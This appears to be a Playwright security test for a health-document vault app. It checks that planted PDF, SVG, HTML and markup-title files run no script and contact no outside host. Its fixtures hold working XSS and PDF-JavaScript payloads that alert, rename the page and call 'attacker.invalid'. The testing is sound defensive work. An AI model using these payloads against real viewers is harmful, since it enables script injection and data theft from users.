// ATK-30 in real Chromium: a patient's vault holds documents planted to run script when shown, a PDF whose
// OpenAction, name tree and annotations carry JavaScript, an SVG with <script>, event handlers and external
// loads, an HTML file with inline script, and a title made of HTML markup. Opening each must run nothing:
// no dialog, document.title unchanged, no request anywhere but our own origin; the HTML file gets no
// preview at all, and the title is shown as text.
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Locator, Page } from 'playwright-core';
import { launchChromium, type Browser } from './browser.ts';
import { buildPdf, buildPng, firstExtraObject } from './fixtures.ts';
import { startWebServer, type WebServer } from './web-server.ts';

const ACCOUNT = 'atk30@example.org';
const PASSWORD = 'une phrase de passe assez longue';
const ATTACKER = 'https://attacker.invalid';

const EVIL = firstExtraObject(1);
/** A valid one-page PDF (it draws its rectangle) whose every script hook would alert, fetch or rename. */
const PDF = buildPdf({
  catalogExtra: `/OpenAction ${EVIL} 0 R /Names << /JavaScript << /Names [(evil) ${EVIL + 1} 0 R] >> >> /AcroForm << /Fields [${EVIL + 2} 0 R] >>`,
  pageExtra: `/Annots [${EVIL + 2} 0 R ${EVIL + 3} 0 R] /AA << /O ${EVIL} 0 R >>`,
  extraObjects: [
    `<< /Type /Action /S /JavaScript /JS (app.alert('pdf-openaction'); this.submitForm('${ATTACKER}/pdf-submit'); document.title = 'pwned-pdf';) >>`,
    `<< /S /JavaScript /JS (app.alert('pdf-names'); app.launchURL('${ATTACKER}/pdf-launch', true); this.getURL('${ATTACKER}/pdf-geturl');) >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [60 60 240 140] /P 3 0 R /AA << /K ${EVIL} 0 R /Fo ${EVIL} 0 R /PO ${EVIL} 0 R >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [50 50 250 150] /Border [0 0 0] /A << /S /JavaScript /JS (app.alert('pdf-link')) >> >>`,
  ],
});
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="50" height="40" onload="alert('svg-onload'); document.title = 'pwned-svg'">
  <script>alert('svg-script'); document.title = 'pwned-svg'; fetch('${ATTACKER}/svg-fetch');</script>
  <image href="${ATTACKER}/svg-image.png" width="10" height="10"/>
  <rect width="50" height="40" fill="blue" onmouseover="alert('svg-hover')"/>
  <foreignObject width="50" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert('svg-foreign')"/></body></foreignObject>
</svg>`;
const HTML = `<!doctype html><title>evil</title><script>alert('html'); top.document.title = 'pwned-html'; fetch('${ATTACKER}/html-fetch');</script><img src="x" onerror="alert('html-img')">`;
const MARKUP_TITLE = `<img src=x onerror="alert('title'); document.title = 'pwned-title'">`;

const FILES = [
  { name: 'scripted.pdf', mimeType: 'application/pdf', buffer: PDF, title: 'PDF piégé' },
  { name: 'scripted.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(SVG), title: 'SVG piégé' },
  { name: 'scripted.html', mimeType: 'text/html', buffer: Buffer.from(HTML), title: 'Page HTML piégée' },
  { name: 'plain.png', mimeType: 'image/png', buffer: buildPng(8, 8, 'plain'), title: MARKUP_TITLE },
  { name: 'disguised.png', mimeType: 'image/png', buffer: Buffer.from(SVG), title: 'SVG déguisé en PNG' },
];

let server: WebServer;
let browser: Browser;
let page: Page;
let appTitle: string;
const dialogs: string[] = [];
const requests: string[] = [];
const pageErrors: string[] = [];

beforeAll(async () => {
  server = await startWebServer({ api: true });
  browser = await launchChromium();
  page = await browser.context.newPage();
  browser.context.on('request', (request) => { requests.push(request.url()); });
  browser.context.on('dialog', (dialog) => { dialogs.push(dialog.message()); void dialog.dismiss(); });
  page.on('pageerror', (error) => { pageErrors.push(error.message); });
  await page.goto(server.url);
  await signUpAndLogIn();
  await addFiles();
  appTitle = await page.title();
}, 120_000);

afterAll(async () => {
  await browser.close();
  await server.close();
});

async function signUpAndLogIn(): Promise<void> {
  await page.getByRole('navigation').getByRole('link', { name: 'Créer un compte' }).click();
  await page.getByLabel('Identifiant').fill(ACCOUNT);
  await page.getByLabel('Mot de passe', { exact: true }).fill(PASSWORD);
  await page.getByLabel('Mot de passe (encore)').fill(PASSWORD);
  await page.getByRole('button', { name: 'Créer mon compte' }).click();
  await page.getByRole('button', { name: 'J’ai noté mes mots' }).click({ timeout: 30_000 });
  // The log-in page, once its chunk has arrived: the sign-up form left behind has an "Identifiant" too.
  await page.getByText('Compte créé. Connectez-vous pour ouvrir votre coffre.').waitFor();
  await page.getByLabel('Identifiant').fill(ACCOUNT);
  await page.getByLabel('Mot de passe').fill(PASSWORD);
  await page.getByRole('button', { name: 'Se connecter' }).click();
  await page.getByText('Aucun document pour l’instant.').waitFor({ timeout: 30_000 });
}

async function addFiles(): Promise<void> {
  await page.getByRole('navigation').getByRole('link', { name: 'Ajouter des documents' }).click();
  await page.getByLabel('Fichiers').setInputFiles(FILES.map(({ name, mimeType, buffer }) => ({ name, mimeType, buffer })));
  for (const [index, file] of FILES.entries()) await page.locator('.file-row').nth(index).getByLabel('Titre').fill(file.title);
  await page.getByRole('button', { name: 'Chiffrer et envoyer' }).click();
  await page.getByText('Tous les documents ont été ajoutés.').waitFor({ timeout: 30_000 });
  await page.getByRole('navigation').getByRole('link', { name: 'Mes documents' }).click();
  await page.locator('.documents .document').nth(FILES.length - 1).waitFor();
}

function itemOf(title: string): Locator {
  return page.locator('.document').filter({ has: page.getByRole('heading', { name: title, exact: true }) });
}

/** Requests to anything but our origin (blob: URLs of our origin included), or to a path a payload names. */
function unexpectedRequests(): string[] {
  const origin = new URL(server.url).origin;
  return requests.filter((url) => {
    const own = url.startsWith(`${origin}/`) || url.startsWith(`blob:${origin}/`);
    return !own || url.includes('attacker') || new URL(url.replace(/^blob:/, '')).pathname === '/x';
  });
}

/** Gives a planted script time to act, then checks that nothing ran. */
async function expectNothingRan(): Promise<void> {
  await page.waitForTimeout(1000);
  expect(dialogs).toEqual([]);
  expect(await page.title()).toBe(appTitle);
  expect(unexpectedRequests()).toEqual([]);
  expect(pageErrors).toEqual([]);
}

async function closePreview(item: Locator): Promise<void> {
  await item.getByRole('button', { name: 'Fermer l’aperçu' }).click();
  await item.locator('.preview').waitFor({ state: 'detached' });
}

describe('ATK-30 planted documents in Chromium', () => {
  it('ATK-30 lists the planted documents on "Mes documents", pdf.js not loaded until a PDF is opened', async () => {
    expect(appTitle).toBe('Mes documents — Coffre santé');
    // Every script the page loaded so far: none holds pdf.js or points at its Worker.
    const scripts = await page.evaluate(async () => Promise.all(performance.getEntriesByType('resource')
      .map((entry) => entry.name).filter((url) => url.endsWith('.js'))
      .map(async (url) => ({ url, text: await (await fetch(url)).text() }))));
    expect(scripts.length).toBeGreaterThan(0);
    expect(scripts.filter(({ url, text }) => /pdf/i.test(url) || text.includes('pdf.worker')).map(({ url }) => url)).toEqual([]);
  });

  it('ATK-30 shows a title made of HTML markup as literal text, in the list and in the preview heading', async () => {
    const item = itemOf(MARKUP_TITLE);
    expect(await item.locator('.document-title').textContent()).toBe(MARKUP_TITLE);
    expect(await item.locator('.document-title img').count()).toBe(0);
    await item.getByRole('button', { name: 'Ouvrir' }).click();
    await item.locator('.preview img').waitFor();
    expect(await item.locator('.preview-heading').textContent()).toBe(`Aperçu de « ${MARKUP_TITLE} »`);
    expect(await item.locator('.preview-heading img').count()).toBe(0);
    expect(await item.locator('.preview img').getAttribute('alt')).toBe(MARKUP_TITLE);
    await expectNothingRan();
    await closePreview(item);
  }, 30_000);

  it('ATK-30 draws a PDF whose OpenAction, JavaScript names and annotations hold scripts, and runs none of them', async () => {
    const item = itemOf('PDF piégé');
    await item.getByRole('button', { name: 'Ouvrir' }).click();
    const canvas = item.locator('.preview canvas');
    await canvas.waitFor({ timeout: 20_000 });
    await expect.poll(() => canvas.evaluate((element: HTMLCanvasElement) => {
      const { data } = element.getContext('2d')!.getImageData(0, 0, element.width, element.height);
      return data.some((value, index) => index % 4 === 2 && value > 150 && data[index - 2]! < 80);
    }), { timeout: 10_000 }).toBe(true);
    expect(await item.locator('.pdf-page-count').textContent()).toBe('Page 1 sur 1');
    // No annotation, link or form layer: nothing of the PDF became DOM.
    expect(await item.locator('.preview a, .preview input, .preview textarea, .preview section, .preview iframe').count()).toBe(0);
    await expectNothingRan();
    await closePreview(item);
  }, 40_000);

  it('ATK-30 shows an SVG holding <script>, onload and external loads only as an image: nothing runs, nothing is fetched', async () => {
    const item = itemOf('SVG piégé');
    await item.getByRole('button', { name: 'Ouvrir' }).click();
    const drawing = item.locator('.preview canvas.svg-preview');
    await drawing.waitFor();
    await expect.poll(() => drawing.evaluate((canvas: HTMLCanvasElement) => [canvas.dataset.width, canvas.dataset.height])).toEqual(['50', '40']);
    await drawing.hover();
    await expectNothingRan();
    expect(await page.locator('svg script, iframe, object, embed').count()).toBe(0);
    // No blob: URL of the SVG is left in the page: opened in a new tab, it would be a scripted document of
    // our origin (see the next test).
    expect(await page.evaluate(() => [...document.querySelectorAll('[src], [href]')].map((element) => element.getAttribute('src') ?? element.getAttribute('href') ?? '')
      .filter((url) => url.startsWith('blob:')))).toEqual([]);
    await closePreview(item);
  }, 30_000);

  it('ATK-30 (why the SVG is drawn, not shown by URL) an SVG blob: URL opened in its own tab runs its scripts in our origin', async () => {
    const [dialogsBefore, requestsBefore] = [dialogs.length, requests.length];
    const tab = await browser.context.newPage();
    await tab.goto(server.url);
    const url = await tab.evaluate((svg) => URL.createObjectURL(new Blob([svg], { type: 'image/svg+xml' })), SVG);
    const seen: string[] = [];
    tab.on('dialog', (dialog) => { seen.push(dialog.message()); });
    await tab.goto(url);
    await expect.poll(() => seen.length).toBeGreaterThan(0);
    await tab.close();
    // This probe's own dialogs and requests are not the app's: forget them.
    dialogs.splice(dialogsBefore);
    requests.splice(requestsBefore);
  }, 30_000);

  it('ATK-30 treats an SVG declared as a PNG as a PNG: it fails to decode, a sentence says so, nothing runs', async () => {
    const item = itemOf('SVG déguisé en PNG');
    await item.getByRole('button', { name: 'Ouvrir' }).click();
    await item.getByText('L’aperçu n’a pas pu être affiché').waitFor();
    expect(await item.locator('.preview img, .preview canvas').count()).toBe(0);
    await expectNothingRan();
    await closePreview(item);
  }, 30_000);

  it('ATK-30 gives an HTML file no preview: a sentence and the download, its script never enters the page', async () => {
    const item = itemOf('Page HTML piégée');
    await item.getByRole('button', { name: 'Ouvrir' }).click();
    await item.getByText('Pas d’aperçu dans la page pour ce type de fichier').waitFor();
    expect(await item.locator('.preview img, .preview canvas, .preview iframe').count()).toBe(0);
    expect(await page.locator('iframe, object, embed').count()).toBe(0);
    expect(await page.evaluate(() => document.documentElement.outerHTML.includes('html-fetch'))).toBe(false);
    const [download] = await Promise.all([page.waitForEvent('download'), item.getByRole('button', { name: 'Télécharger le fichier' }).click()]);
    expect(download.suggestedFilename()).toBe('scripted.html');
    expect(readFileSync(await download.path()).toString()).toBe(HTML);
    await expectNothingRan();
    await closePreview(item);
  }, 30_000);

  it('ATK-30 loaded pdf.js from our own origin only, and its Worker is gone once the preview closed', () => {
    const origin = new URL(server.url).origin;
    const scripts = requests.filter((url) => /pdf/i.test(url) && /\.m?js$/.test(url));
    expect(scripts.length).toBeGreaterThanOrEqual(2);
    expect(scripts.every((url) => url.startsWith(`${origin}/assets/`))).toBe(true);
    expect(page.workers().map((worker) => worker.url()).filter((url) => /pdf/i.test(url))).toEqual([]);
  });
});
